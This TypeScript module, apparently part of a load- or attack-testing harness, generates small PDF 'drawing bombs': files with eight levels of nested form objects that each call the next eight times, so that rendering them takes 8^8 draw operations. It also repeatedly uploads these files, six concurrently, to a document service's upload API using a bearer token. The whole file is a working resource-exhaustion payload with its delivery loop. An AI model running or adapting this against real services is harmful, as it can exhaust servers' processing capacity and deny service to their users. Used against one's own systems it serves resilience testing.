/** PDFs of a form that calls a form that calls a form: 2.4 KB each, and 8⁸ lines to draw. */
import { randomBytes } from 'node:crypto'
import { type Attack, again, createTally } from './attack.ts'

const AT_ONCE = 6
const CALLS = 8
const LEVELS = 8

export const drawingBombs: Attack = async ({ url, token }, isOver) => {
  const tally = createTally()
  await again(AT_ONCE, isOver, async () => {
    const form = new FormData()
    form.set('document', new File([drawingBomb()], 'letter.pdf'))
    form.set('options', JSON.stringify({ envelopeDocument: true }))
    const reply = await fetch(`${url}/api/Document/upload`, {
      method: 'POST',
      headers: { authorization: `Bearer ${token}` },
      body: form,
    })
    const { data } = (await reply.json()) as { data?: { message?: string; uploadStatus?: number }[] }
    tally.add(data?.[0] ? `uploaded with status ${data[0].uploadStatus}` : reply.status)
  })
  return tally.words()
}

/** Unlike any before it, so that it is looked at anew. */
export function drawingBomb(): Uint8Array<ArrayBuffer> {
  const stream = (dict: string, content: string) =>
    `<< ${dict} /Length ${content.length} >>\nstream\n${content}\nendstream`
  const form = (resources: string, content: string) =>
    stream(`/Type /XObject /Subtype /Form /BBox [0 0 400 400] ${resources}`, content)
  const first = 5
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 400] /Contents 4 0 R /Resources << /XObject << /X ${first} 0 R >> >> >>`,
    stream('', '/X Do'),
    ...Array.from({ length: LEVELS }, (_, level) =>
      form(`/Resources << /XObject << /X ${first + level + 1} 0 R >> >>`, '/X Do '.repeat(CALLS)),
    ),
    form('', '0 0 m 400 400 l S'),
  ]
  let text = `%PDF-1.7\n% ${randomBytes(16).toString('hex')}\n`
  const places = objects.map((body, at) => {
    const place = text.length
    text += `${at + 1} 0 obj\n${body}\nendobj\n`
    return place
  })
  const start = text.length
  const lines = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('')
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${lines}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`
  return new Uint8Array(Buffer.from(text, 'latin1'))
}
